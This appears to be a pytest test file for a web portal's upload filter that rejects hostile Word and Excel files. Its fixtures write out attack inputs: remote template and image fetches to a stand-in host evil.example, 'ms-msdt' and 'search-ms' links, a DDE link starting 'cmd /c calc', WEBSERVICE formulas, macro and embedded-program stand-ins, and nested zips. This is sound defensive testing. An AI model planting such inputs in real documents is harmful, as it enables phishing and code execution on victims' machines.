"""Hostile Word files and workbooks at the gate: what they would fetch or start, and where links may lead."""

import io
import zipfile

import pytest

from cica_portal import uploads
from tests.files import document, drawing, package, refusal, refused, relationships, sheet

OUTSIDE = {
    "template": ("word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/t.dotm"),
    "template on a host": ("word/_rels/settings.xml.rels", "attachedTemplate", r"\\evil.example\t.dotm"),
    "picture": ("word/_rels/document.xml.rels", "image", "https://evil.example/p.png"),
    "object": ("word/_rels/document.xml.rels", "oleObject", "file:///c:/a.xlsx"),
    "part of a whole": ("word/_rels/document.xml.rels", "subDocument", "other.docx"),
    "frame": ("word/_rels/webSettings.xml.rels", "frame", "https://evil.example/"),
    "data of a letter": ("word/_rels/settings.xml.rels", "mailMergeSource", "file:///c:/people.mdb"),
    "workbook": ("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "other.xlsx"),
    "film": ("word/_rels/document.xml.rels", "video", "https://evil.example/v.mp4"),
}


@pytest.mark.parametrize(("part", "kind", "target"), OUTSIDE.values(), ids=OUTSIDE)
def test_parts_outside_of_the_file_are_refused_and_named(part, kind, target):
    found = refused(package(**{part: relationships((kind, target, "External"))}))

    assert found.code == "with_outside_parts"
    assert target in str(found)


@pytest.mark.parametrize(
    "content",
    [
        document('<w:pict><v:shape><v:imagedata src="https://evil.example/p.png"/></v:shape></w:pict>'),
        document(r'<w:pict><v:fill src="\\evil.example\p.png"/></w:pict>'),
        document('<w:pict><v:fill o:href="http://evil.example/p.png"/></w:pict>'),
        document(r'<w:pict><v:stroke o:althref="\\evil.example\p.png"/></w:pict>'),
        package(**{"word/media/a.svg": '<svg><image href="https://evil.example/p.png"/></svg>'}),
        drawing('<style>a { } @import "https://evil.example/s.css";</style>'),
        drawing("<style><![CDATA[@font-face { src: u]]>\\72l('//evil.example/f') }</style>"),
        drawing('<rect style="fill: URL( https://evil.example/p.svg#a )"/>'),
        drawing('<rect filter="url(&quot;http://evil.example/p.svg&quot;)"/>'),
        package(**{"word/document.xml": '<?xml-stylesheet href="https://evil.example/"?><document/>'}),
        package(**{"word/_rels/document.xml.rels": relationships(("aFChunk", "chunk.mht", ""))}),
    ],
)
def test_what_is_fetched_without_a_relation_is_refused_too(content):
    assert refusal(content) == "with_outside_parts"


@pytest.mark.parametrize(
    "inside",
    [
        "<style>.a { fill: url(#b); font-family: 'Segoe UI' }</style>",
        '<rect style="fill: url(data:image/png;base64,AA==)" clip-path="url(#c)"/>',
    ],
)
def test_a_drawing_that_fetches_nothing_passes(inside):
    assert not refusal(drawing(inside))


# Links: a person must click, and they lead to the web or to a mail address ------------------------------
LINKS = "word/_rels/document.xml.rels"


@pytest.mark.parametrize(
    "target", ["https://www.example.org/", "HTTP://example.org", "mailto:a@example.org", "#a"]
)
def test_links_to_the_web_and_to_mail_pass(target):
    assert not refusal(package(**{LINKS: relationships(("hyperlink", target, "External"))}))


@pytest.mark.parametrize(
    "target",
    [
        *(
            "file:///c:/windows/system32/calc.exe",
            r"\\evil.example\share\a.exe",
            "//evil.example/a",
            "annex.docx",
        ),
        *(
            "javascript:alert(1)",
            "ms-msdt:/id",
            "search-ms:query=a",
            "smb://evil.example/a",
            "ftp://a.example/",
        ),
    ],
)
def test_links_that_lead_elsewhere_are_refused_and_named(target):
    found = refused(package(**{LINKS: relationships(("hyperlink", target, "External"))}))

    assert found.code == "with_links"
    assert target in str(found)


@pytest.mark.parametrize(
    "content",
    [
        document('<w:pict><v:shape href="file:///c:/a.exe"/></w:pict>'),
    ],
)
def test_links_without_a_relation_are_judged_alike(content):
    assert refusal(content) == "with_links"


# Workbooks ----------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (sheet("<c><f>WEBSERVICE(&quot;https://evil.example/&quot;)</f></c>"), "with_formulas"),
        (sheet("<c><f>1+_xlfn.IMAGE (A1)</f></c>"), "with_formulas"),
        (
            sheet('<definedName name="a">rtd("a","","b")</definedName>', "xl/workbook.xml"),
            "with_formulas",
        ),
        (
            sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', "xl/externalLinks/a.xml"),
            "with_data",
        ),
        (sheet('<oleLink progId="a"/>', "xl/externalLinks/a.xml"), "with_data"),
        (sheet('<connection><dbPr connection="a"/></connection>', "xl/connections.xml"), "with_data"),
        (
            sheet('<connection><webPr url="https://a/"/></connection>', "xl/connections.xml"),
            "with_data",
        ),
        (document("<w:mailMerge/>", "word/settings.xml"), "with_data"),
    ],
)
def test_what_takes_data_from_elsewhere_is_refused(content, reason):
    assert refusal(content) == reason


@pytest.mark.parametrize(
    "inside",
    [
        "<c><f>SUM(A1:A9)</f><v>45</v></c>",
        "<c><f>IF(A1,&quot;WEBSERVICE(1)&quot;,MYIMAGE(2))</f></c>",
        "<c><t>=WEBSERVICE(1)</t></c>",
    ],
)
def test_workbooks_that_only_count_pass(inside):
    assert uploads.kind_of(sheet(inside)) == "xlsx"


# What stands inside -------------------------------------------------------------------------------------
def test_embedded_files_pass_the_same_gate():
    hostile = package(**{"xl/vbaProject.bin": b"x"})
    within = package(**{"word/embeddings/a.xlsx": hostile})
    deeper = package(**{"word/embeddings/a.docx": within})
    programme = uploads.OLD_WORD_SIGNATURE + "\x01Ole10Native".encode("utf-16-le")

    assert refusal(within) == refusal(deeper) == "with_macros"
    assert refusal(package(**{"word/embeddings/o.bin": programme})) == "with_macros"
    assert not refusal(package(**{"word/embeddings/a.xlsx": sheet("<c/>")}))
    assert not refusal(package(**{"word/embeddings/o.bin": uploads.OLD_WORD_SIGNATURE + b"Equation"}))


def test_a_file_within_a_file_within_a_file_ends_somewhere():
    content = package()
    for _time in range(30):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as file:
            file.writestr("a.zip", content)
        content = stream.getvalue()

    assert refusal(package(**{"word/embeddings/a.zip": content})) == "too_many_parts"


# Macros, controls, scripts ----------------------------------------------------------------------------
ACTIVE = {
    "macros": ({"word/vbaProject.bin": b"\xd0\xcf"}, "with_macros"),
    "a control": ({"word/activeX/activeX1.xml": "<ax/>"}, "with_macros"),
    "a packed program": (
        {
            "word/embeddings/oleObject1.bin": uploads.OLD_WORD_SIGNATURE
            + "\x01Ole10Native".encode("utf-16-le")
        },
        "with_macros",
    ),
    "scripts of a custom part": ({"customXml/item1.xml": "<script>x</script>"}, "with_macros"),
    "a drawing with a script": ({"word/media/a.svg": "<svg><script>x</script></svg>"}, "with_macros"),
    "a script inside a picture's name": (
        {"word/media/a.png": "<svg><script>x</script></svg>"},
        "with_macros",
    ),
}


@pytest.mark.parametrize(("added", "reason"), ACTIVE.values(), ids=ACTIVE)
def test_what_acts_in_an_office_file_is_refused(added, reason):
    assert refusal(package(**added)) == reason


def test_an_embedded_font_neither_acts_nor_fetches_and_passes():
    assert not refusal(package(**{"word/fonts/font1.odttf": b"\x00\x01obfuscated"}))
